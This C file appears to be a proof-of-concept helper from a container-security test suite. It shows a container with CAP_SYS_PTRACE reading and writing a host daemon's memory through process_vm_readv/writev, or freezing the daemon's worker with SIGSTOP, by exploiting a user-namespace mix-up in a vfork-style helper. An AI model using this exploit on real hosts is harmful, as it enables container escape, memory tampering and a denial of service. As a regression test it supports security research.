/* SPDX-License-Identifier: MIT */
/*
 * lock_grab NOTIFYD_PID ADDR SECONDS : run by a container that shares the
 * host's pid namespace (no "pid" namespace in its config) and holds
 * CAP_SYS_PTRACE in its own user namespace (tests/security/
 * notifyd_redteam2.sh, group broken_lockptrace).
 *
 * mount_lock_attach() runs lock_child() in a vfork-style helper (CLONE_VM:
 * notifyd's own memory) that setns()es into the container's user namespace.
 * Its credentials then belong to that user namespace (full capabilities
 * there), and notifyd's memory is dumpable, so __ptrace_may_access() lets a
 * task with CAP_SYS_PTRACE in the container's user namespace at it: the
 * host-root ids of the helper do not matter (ptrace_has_cap(tcred->user_ns)).
 *
 * This watches notifyd's threads' children and tries process_vm_readv() of
 * 4 bytes at ADDR (the start of notifyd's executable mapping, given by the
 * host: "\x7fELF") in every child it sees.  Prints
 *   GRABBED pid=P ns=user:[...] bytes=7f454c46   (notifyd's memory read)
 * or "nothing" after SECONDS.  With RWADDR (the start of notifyd's first
 * writable mapping), it also writes the 8 bytes it reads there back,
 * unchanged, through process_vm_writev() on the same helper:
 *   WROTE pid=P addr=RWADDR                     (notifyd's memory written)
 *
 * lock_grab NOTIFYD_PID stop SECONDS : instead, SIGSTOP the first child of
 * notifyd's threads that is in our user namespace (the kill() permission
 * check also goes by the target's user namespace: CAP_KILL in ours):
 *   STOPPED pid=P                                (notifyd's worker now waits
 *                                                 for it forever: vfork)
 */
#include <signal.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr, "usage: lock_grab NOTIFYD_PID ADDR SECONDS [RWADDR]\n");
		return 2;
	}
	int npid = atoi(argv[1]);
	int stop = !strcmp(argv[2], "stop");
	unsigned long addr = stop ? 0 : strtoul(argv[2], NULL, 16);
	double end = now() + atof(argv[3]);
	unsigned long rwaddr = argc > 4 ? strtoul(argv[4], NULL, 16) : 0;
	char own[128] = "", path[128], buf[4096];
	int tids[64], ntid = 0, seen = 0, denied = 0, lasterr = 0;
	ssize_t n;

	n = readlink("/proc/self/ns/user", own, sizeof(own) - 1);
	own[n > 0 ? n : 0] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/task", npid);
	DIR *d = opendir(path);
	if (!d) {
		printf("cannot see notifyd's threads (%s): %s\n", path, strerror(errno));
		return 1;
	}
	for (struct dirent *e; (e = readdir(d)) && ntid < 64;)
		if (e->d_name[0] != '.')
			tids[ntid++] = atoi(e->d_name);
	closedir(d);
	printf("notifyd pid %d, %d threads, my user ns %s\n", npid, ntid, own);
	fflush(stdout);
	while (now() < end) {
		for (int i = 0; i < ntid; i++) {
			snprintf(path, sizeof(path), "/proc/%d/task/%d/children", npid, tids[i]);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			n = read(fd, buf, sizeof(buf) - 1);
			close(fd);
			if (n <= 0)
				continue;
			buf[n] = '\0';
			for (char *p = buf, *q; *p; p = q) {
				long c = strtol(p, &q, 10);
				if (q == p)
					break;
				if (stop) {
					/* kill() itself is the check: only a child in our user
					 * namespace lets us. */
					seen++;
					if (kill((pid_t)c, SIGSTOP) == 0) {
						/* A zombie (exited, not yet reaped) takes the
						 * signal too: check. */
						char st[256] = "", *rp;
						usleep(20000);
						snprintf(path, sizeof(path), "/proc/%ld/stat", c);
						int sfd = open(path, O_RDONLY | O_CLOEXEC);
						ssize_t sn =
						    sfd >= 0 ? read(sfd, st, sizeof(st) - 1) : -1;
						if (sfd >= 0)
							close(sfd);
						st[sn > 0 ? sn : 0] = '\0';
						rp = strrchr(st, ')');
						if (!rp || rp[1] != ' ' || rp[2] != 'T')
							continue;
						char ns[128] = "";
						snprintf(path, sizeof(path), "/proc/%ld/ns/user",
						         c);
						ssize_t m = readlink(path, ns, sizeof(ns) - 1);
						ns[m > 0 ? m : 0] = '\0';
						printf("STOPPED pid=%ld ns=%s\n", c, ns);
						return 0;
					}
					denied++;
					lasterr = errno;
					continue;
				}
				unsigned char data[4] = {0};
				struct iovec l = {data, 4}, r = {(void *)addr, 4};
				seen++;
				if (process_vm_readv((pid_t)c, &l, 1, &r, 1, 0) == 4) {
					char ns[128] = "";
					snprintf(path, sizeof(path), "/proc/%ld/ns/user", c);
					ssize_t m = readlink(path, ns, sizeof(ns) - 1);
					ns[m > 0 ? m : 0] = '\0';
					printf("GRABBED pid=%ld ns=%s bytes=%02x%02x%02x%02x\n", c,
					       ns, data[0], data[1], data[2], data[3]);
					if (rwaddr) {
						unsigned char w[8];
						struct iovec lw = {w, 8}, rw = {(void *)rwaddr, 8};
						if (process_vm_readv((pid_t)c, &lw, 1, &rw, 1, 0) ==
						        8 &&
						    process_vm_writev((pid_t)c, &lw, 1, &rw, 1,
						                      0) == 8)
							printf("WROTE pid=%ld addr=%lx\n", c,
							       rwaddr);
						else
							printf("write refused: %s\n",
							       strerror(errno));
					}
					return 0;
				}
				denied++;
				lasterr = errno;
			}
		}
	}
	printf("nothing: %d children seen, %d refused (last: %s)\n", seen, denied,
	       lasterr ? strerror(lasterr) : "-");
	return 1;
}
